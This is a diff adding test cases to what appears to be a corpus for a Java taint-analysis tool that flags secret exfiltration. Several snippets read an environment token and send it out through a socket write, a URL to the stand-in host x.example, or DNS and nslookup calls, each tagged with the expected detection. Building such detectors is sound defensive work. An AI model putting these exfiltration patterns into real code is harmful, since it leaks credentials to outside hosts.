@@ -597,6 +597,56 @@ final class FlowCorpus {
                     }
                 }
                 """);
+        inline("a channel's write sends its argument, a URL's connection its receiver", "sink payload: arguments, receiver where declared", """
+                package PKG;
+                import java.net.URL;
+                import java.nio.ByteBuffer;
+                import java.nio.channels.SocketChannel;
+                class A {
+                    void f(SocketChannel ch) throws Exception {
+                        String token = System.getenv("TOKEN");
+                        ch.write(ByteBuffer.wrap(token.getBytes())); // expect: EXFIL, from=7
+                        URL url = new URL("https://x.example/?t=" + token);
+                        url.openConnection(); // expect: EXFIL, from=7, via=9
+                    }
+                }
+                """);
+        viaSend("Formatter.format into a StringBuilder it wraps", "library effects: receiver and wrapped builder (model effects)", true, """
+                package PKG;
+                import java.util.Formatter;
+                class A {
+                    void f() throws Exception {
+                        StringBuilder sb = new StringBuilder("id-");
+                        Formatter fmt = new Formatter(sb);
+                        fmt.format("%s.example", System.getenv("TOKEN"));
+                        Send.dns(sb.toString());
+                    }
+                }
+                """);
+        viaSend("PrintWriter over a StringWriter, read back from the StringWriter", "library effects: wrapped writer (model effects)", true, """
+                package PKG;
+                import java.io.PrintWriter;
+                import java.io.StringWriter;
+                class A {
+                    void f() throws Exception {
+                        StringWriter buffer = new StringWriter();
+                        PrintWriter out = new PrintWriter(buffer);
+                        out.print(System.getenv("TOKEN"));
+                        out.flush();
+                        Send.dns(buffer.toString());
+                    }
+                }
+                """);
+        viaSend("ProcessBuilder.command(..., secret) then read back", "library effects: receiver (model effects)", true, """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        ProcessBuilder pb = new ProcessBuilder();
+                        pb.command("nslookup", System.getenv("TOKEN"));
+                        Send.dns(String.join(".", pb.command()));
+                    }
+                }
+                """);
         inline("HttpClient request body", "library builders", """
                 package PKG;
                 import java.net.URI;
@@ -765,6 +815,50 @@ final class FlowCorpus {
                         fmt.apply(System.getenv("TOKEN"));
                         String host = fmt.apply("public.example");
                         java.net.InetAddress.getByName(host);
+                    }
+                }
+                """);
+        add("a channel picked by a secret key is not what a write sends", "negative: sink payload (receiver not sent)", """
+                package PKG;
+                import java.nio.ByteBuffer;
+                import java.nio.channels.SocketChannel;
+                import java.util.Map;
+                class A {
+                    void f(Map<String, SocketChannel> channels) throws Exception {
+                        String token = System.getenv("TOKEN");
+                        SocketChannel ch = channels.get(token);
+                        ch.write(ByteBuffer.wrap("hello".getBytes()));
+                        ch.write(ByteBuffer.wrap("\\n".getBytes()));
+                    }
+                }
+                """);
+        viaSend("Map.put returns the previous value, not the one put", "negative: library effects (model effects)", false, """
+                package PKG;
+                import java.util.HashMap;
+                import java.util.List;
+                import java.util.Map;
+                class A {
+                    void f(List<String> names) throws Exception {
+                        Map<String, String> seen = new HashMap<>();
+                        String previous = seen.put("token", System.getenv("TOKEN"));
+                        String old = names.set(0, System.getenv("TOKEN"));
+                        Send.dns(previous + old + ".example");
+                    }
+                }
+                """);
+        viaSend("a PrintWriter writes through to its own StringWriter, not another", "negative: library effects: wrapped writer (model effects)", false, """
+                package PKG;
+                import java.io.PrintWriter;
+                import java.io.StringWriter;
+                class A {
+                    void f() throws Exception {
+                        StringWriter kept = new StringWriter();
+                        StringWriter sent = new StringWriter();
+                        PrintWriter toKept = new PrintWriter(kept);
+                        PrintWriter toSent = new PrintWriter(sent);
+                        toKept.print(System.getenv("TOKEN"));
+                        toSent.print("public.example");
+                        Send.dns(sent.toString());
                     }
                 }
                 """);
